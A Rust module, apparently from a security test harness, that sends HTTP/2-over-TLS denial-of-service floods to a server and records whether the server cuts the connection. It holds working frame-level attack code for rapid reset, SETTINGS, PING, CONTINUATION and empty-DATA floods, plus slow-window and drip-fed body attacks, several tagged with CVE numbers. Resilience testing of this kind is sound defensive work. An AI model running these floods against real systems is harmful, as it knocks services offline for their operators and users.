//! Floods of HTTP/2, inside TLS.

use std::io::Write;
use std::time::Duration;

use super::super::house::{EVIL, EVIL_USER, READER};
use super::super::support::door::Wire;
use super::super::support::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, frame, header, opening,
};
use super::Attacker;

/// Frames of one flood.
const MANY: usize = 20_000;

/// Requests of one connection.
const STREAMS: u32 = 100;

/// Those of them that each take megabytes from a node: more would only keep the nodes busy.
const LARGE: u32 = 4;

fn begin(attacker: &mut Attacker<'_>, settings: &[u8]) -> Option<Wire> {
    let door = &attacker.targets.streams;
    let connection = attacker.connect_to(door).and_then(|mut connection| {
        connection.write_all(&opening()).ok()?;
        connection
            .write_all(&frame(SETTINGS, 0, 0, settings))
            .ok()?;
        Some(connection)
    });
    if connection.is_none() {
        attacker.count("no connection");
    }
    connection
}

/// The numbers of so many requests.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

/// Sends the same again and again, reads nothing, and counts whether the connection is ended over it.
fn flood(attacker: &mut Attacker<'_>, bytes: &[u8]) {
    let Some(mut connection) = begin(attacker, &[]) else {
        return;
    };
    while attacker.goes_on() {
        if connection.write_all(bytes).is_err() {
            return attacker.count("ended");
        }
        attacker.rest(Duration::from_millis(10));
    }
    attacker.count("went on");
}

fn ping() -> Vec<u8> {
    header("GET", "/ping")
}

/// Requests that are taken back at once (CVE-2023-44487).
pub fn rapid_resets(attacker: &mut Attacker<'_>) {
    let request = header("GET", &format!("/query?{READER}&db={EVIL}&q=SHOW+SERIES"));
    let mut bytes = Vec::new();
    for stream in streams(STREAMS) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
        bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
    }
    flood(attacker, &bytes);
}

/// Settings that must each be taken (CVE-2019-9515).
pub fn settings(attacker: &mut Attacker<'_>) {
    flood(attacker, &frame(SETTINGS, 0, 0, &[]).repeat(MANY));
}

/// Pings that must each be answered (CVE-2019-9512).
pub fn pings(attacker: &mut Attacker<'_>) {
    flood(attacker, &frame(PING, 0, 0, &[0; 8]).repeat(MANY));
}

/// A header that never ends (CVE-2024-27316).
pub fn continuations(attacker: &mut Attacker<'_>) {
    let mut bytes = frame(HEADERS, END_STREAM, 1, &ping());
    let more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b");
    bytes.extend(more.repeat(MANY));
    flood(attacker, &bytes);
}

/// A body of empty frames (CVE-2019-9518).
pub fn empty_data(attacker: &mut Attacker<'_>) {
    let request = header("POST", &format!("/write?db={EVIL}&{EVIL_USER}"));
    let mut bytes = frame(HEADERS, END_HEADERS, 1, &request);
    bytes.extend(frame(DATA, 0, 1, &[]).repeat(MANY));
    flood(attacker, &bytes);
}

/// Large answers, of which it takes a byte at a time (CVE-2019-9517).
pub fn tiny_windows(attacker: &mut Attacker<'_>) {
    // SETTINGS_INITIAL_WINDOW_SIZE of 1.
    let Some(mut connection) = begin(attacker, &[0, 4, 0, 0, 0, 1]) else {
        return;
    };
    let request = header(
        "GET",
        &format!("/query?{READER}&db={EVIL}&q=SELECT+*+FROM+big"),
    );
    let mut bytes = frame(SETTINGS, ACK, 0, &[]);
    for stream in streams(LARGE) {
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request));
    }
    attacker.count("begun");
    let wider: Vec<u8> = streams(LARGE)
        .flat_map(|stream| frame(WINDOW_UPDATE, 0, stream, &[0, 0, 0, 1]))
        .collect();
    while attacker.goes_on() {
        if connection.write_all(&bytes).is_err() {
            return attacker.count("ended");
        }
        bytes.clone_from(&wider);
        attacker.rest(Duration::from_millis(100));
    }
}

/// Requests whose bodies are announced and come a byte at a time.
pub fn unfinished_bodies(attacker: &mut Attacker<'_>) {
    let Some(mut connection) = begin(attacker, &[]) else {
        return;
    };
    let request = header("POST", &format!("/write?db={EVIL}&{EVIL_USER}"));
    let mut bytes = Vec::new();
    for stream in streams(STREAMS) {
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &request));
    }
    attacker.count("begun");
    let drip: Vec<u8> = streams(STREAMS)
        .flat_map(|stream| frame(DATA, 0, stream, b"m"))
        .collect();
    while attacker.goes_on() {
        if connection.write_all(&bytes).is_err() {
            return attacker.count("ended");
        }
        bytes.clone_from(&drip);
        attacker.rest(Duration::from_millis(500));
    }
}
